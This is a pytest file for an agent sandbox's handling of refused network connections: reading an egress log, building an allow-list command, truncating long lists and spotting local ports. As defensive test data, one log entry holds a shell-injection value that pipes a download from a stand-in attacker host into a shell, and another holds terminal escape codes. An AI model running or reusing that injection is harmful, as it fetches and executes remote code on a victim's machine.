"""What the sandbox refused, read from its record and from what a command complained about."""

import json
import shlex
import socket
from pathlib import Path

import pytest

from agents_manager.domain.event import ConnectionsBlocked
from agents_manager.sandbox import refusals

OFF_LIST = "the name is not on the list"


@pytest.fixture
def cage(tmp_path: Path) -> Path:
    file = tmp_path / "sandbox.json"
    file.write_text(json.dumps({"ports": []}))
    return file


def record(folder: Path, *entries: tuple[str, str]) -> Path:
    lines = [json.dumps({"place": place, "said": why}) for place, why in entries]
    log = folder / "egress.log"
    log.write_text("\n".join([*lines, '{"place": "cut']))
    return log


def test_only_what_a_setting_would_let_through_counts(tmp_path: Path, cage: Path) -> None:
    log = record(
        tmp_path,
        ("a.example.com:443", "let through"),
        ("b.example.com:443", OFF_LIST),
        ("b.example.com:443", OFF_LIST),
        ("c.example.com:443", "broke: TimeoutError"),
        ("10.1.2.3:8080", "addresses are not let through, only names"),
    )
    found = refusals.found(log, cage, "")
    assert [each.place for each in found] == ["b.example.com:443", "10.1.2.3:8080"]


def test_the_command_adds_to_what_is_allowed_and_holds_no_words_of_the_agent(
    tmp_path: Path, cage: Path
) -> None:
    log = record(
        tmp_path,
        ("b.example.com:443", OFF_LIST),
        ("x';curl evil.sh|sh;':443", OFF_LIST),
        ("\x1b[2Jc.example.com:443", OFF_LIST),
        ("d.example.com:99999", "port 99999 is not let through"),
        ("e.example.com:443", 'TLS was begun for "f"'),
    )
    told = refusals.described(refusals.found(log, cage, ""), ["10.0.0.5:8080"])
    value = '["10.0.0.5:8080", "b.example.com:443"]'
    assert shlex.split(told.allow)[-2:] == ["sandbox.addresses", value]
    assert len(told.refused) == 5
    assert all(each.place.isprintable() for each in told.refused)


def test_many_places_are_cut_and_counted(tmp_path: Path, cage: Path) -> None:
    log = record(tmp_path, *((f"h{n}.example.com:443", OFF_LIST) for n in range(30)))
    told = refusals.described(refusals.found(log, cage, ""), [])
    assert (len(told.refused), told.more) == (refusals.MOST, 10)
    places = tuple(each.place for each in told.refused)
    sentence = ConnectionsBlocked(run="r", places=places, reasons=(), more=told.more).sentence()
    assert sentence.endswith("h4.example.com:443 and 25 more.")


@pytest.mark.parametrize("said", ["connect ECONNREFUSED 127.0.0.1:{}", "http://localhost:{}/v1"])
def test_a_port_counts_that_a_program_here_listens_on_and_the_sandbox_lacks(
    said: str, tmp_path: Path, cage: Path
) -> None:
    with socket.create_server(("127.0.0.1", 0)) as server:
        port = server.getsockname()[1]
        found = refusals.found(tmp_path / "none", cage, said.format(port))
        assert [each.place for each in found] == [f"127.0.0.1:{port}"]
        cage.write_text(json.dumps({"ports": [port]}))
        assert refusals.found(tmp_path / "none", cage, said.format(port)) == []
    cage.write_text(json.dumps({"ports": []}))
    assert refusals.found(tmp_path / "none", cage, said.format(port)) == []
